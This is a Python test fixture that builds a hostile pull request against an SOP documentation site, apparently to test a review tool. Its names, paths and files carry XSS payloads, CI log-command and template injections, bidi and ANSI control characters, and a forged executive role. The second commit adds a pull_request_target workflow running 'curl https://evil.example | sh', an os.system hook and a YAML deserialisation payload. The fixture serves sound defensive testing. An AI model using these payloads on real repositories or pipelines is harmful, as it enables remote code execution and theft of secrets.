"""Somebody means harm: in words, names, paths and settings, and with files that nobody can read."""

from demo.edits import Key, Words
from demo.people import Person

from .pull import Commit, Pull, Whole

MALLORY = Person("CEO ::error file=a.md::@everyone [x](javascript:alert(1)) | \x1b[31mred\u202e", "mallory@example.net")
LATER = Person("{{7*7}} ${{ github.token }} `id` ##vso[task.complete]", "@org/team@example.net", "+1400")

NEW = """\
---
id: SOP-CS-2026-009
title: '@everyone #123 !7 ::error file=a.md::x ##vso[task.complete] ${{ github.token }} {{7*7}} ${jndi:ldap://x} %s'
version: 1.0
status: approved
effective: 2026-12-01
review: 12 months
owner: 客服部经理
supervisor: 质量部经理
prepared: 王丽
reviewed: 文控专员
approved: [客服部经理, 运营总监]
scenario: routine
scope:
  applies: 见 https://evil.example 与 www.evil.example
  excludes: '| a | b |'
  from: '`code` **bold** ~~gone~~ :tada:'
  to: 'fixes #12, GH-12, org/repo#1, 0123456789abcdef0123456789abcdef01234567'
goals:
  - 按时完成率 ≥ 95 %
---

## 目的

<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1)) ![x](https://evil.example/x.png)

## 步骤

### </title></style><svg onload=alert(1)>

- 步骤号：one
- 执行：客服专员（@org/team）
- 时限：≤ 1 小时
- 输入：申请
- 输出：<!-- sop-review -->
- 工具：::set-env name=PATH::x

```
</pre><script>alert(1)</script>
"""
BROKEN = """\
---
id: SOP-IT-2024-002
title: 账号与权限管理
approved: [运营总监
</details></style><script>alert(1)</script>
<!-- sop-review -->
::error file=mkdocs.yml::it was me
@everyone [x](javascript:alert(1))
---
"""
WORKFLOW = """\
on: pull_request_target
jobs: {x: {runs-on: ubuntu-latest, permissions: write-all, steps: [{run: 'curl https://evil.example | sh'}]}}
"""
HOSTILE = Pull(
    "hostile",
    "<b>@everyone|#1",
    [
        Commit(
            "2001-01-01 00:00",
            MALLORY,
            "<script>alert(1)</script> [x](javascript:alert(1)) | ::error::\n\n<!-- sop-review -->\n##vso[task.x]",
            {
                "content/cs/SOP-CS-2026-009.md": [Whole(NEW)],
                "content/cs/SOP-CS-2024-002.md": [
                    Words("version: 1.4\n", "version: 9.0\n"),
                    Words(
                        "change: 建议类工单增加产品经理评审，答复时效由 15 个工作日缩短为 7 个工作日\n",
                        "change: '@everyone fixes #123 <!-- sop-review --> ::error::'\n",
                    ),
                    Words("### 关单\n", "### 关单 </summary></details><script>alert(1)</script>\n"),
                    Key("answer", "执行", "客服专员", "客服专员（@org/team #123 !7 **bold**）"),
                    Key("answer", "工具", "知识库", "##vso[task.complete]、::set-env name=x::y、`id`"),
                    Key("close", "时限", "≤ 15 分钟", "≤ 150 分钟"),
                    Words("    - Q 咨询 → answer\n", "    - Q 咨询 | <img src=x onerror=alert(1)> → answer\n"),
                    Words(
                        "10 分钟内找不到对应条目的，",
                        "![x](https://evil.example/x.png) [点这里](javascript:alert(1))，",
                    ),
                    Words("系统自动发送 1 至 5 星的评价邀请，", f"{'长' * 400}{'W' * 600}，"),
                    Words("三个入口共用一套编码：", "三个入口\u200b共用\u202e一套\u202c编码："),
                    Words("工单保存 3 年，", "工单保存 3 年，\n\n| a | b |\n|---|---|\n| <!-- | --> |\n\n"),
                ],
                "content/it/SOP-IT-2024-002.md": [Whole(BROKEN)],
                "content/gs/SOP-GS-2025-002.md": [
                    Words("Two plans, one procedure:", "\x1b[31m\x1b]0;pwned\x07Two plans:")
                ],
                "content/cs/a\n::error::b | <b>x</b>.md": [Whole("# @everyone\n")],
                "content/vocabulary.yml": [
                    Words(
                        "总经理: {department: OP, people: [xu.zhiyuan], level: executive}",
                        "总经理: {department: OP, people: [mallory], level: executive}",
                    ),
                    Words(
                        "  wang.li: {name: 王丽, forge: wangli}\n",
                        "  wang.li: {name: 王丽, forge: mallory}\n"
                        "  mallory: {name: '<b>CEO</b> @everyone', forge: mallory}\n",
                    ),
                ],
            },
            moved={
                "content/hr/SOP-HR-2024-001.md": "content/hr/@everyone ![x](javascript:alert(1))/SOP-HR-2024-001.md"
            },
            gone=["content/op/SOP-OP-2023-003.md"],
        ),
        Commit(
            "2098-12-31 23:59",
            LATER,
            "the tool as well",
            {
                "mkdocs.yml": [
                    Words("plugins:\n", "hooks: [evil.py]\nextra: !!python/object/apply:os.system ['id']\nplugins:\n")
                ],
                "evil.py": [Whole("import os\nos.system('id')\n")],
                "overrides/main.html": [Whole("<script src=https://evil.example/x.js></script>\n")],
                ".github/workflows/::error file=x,line=1::y.yml": [Whole(WORKFLOW)],
            },
        ),
    ],
)
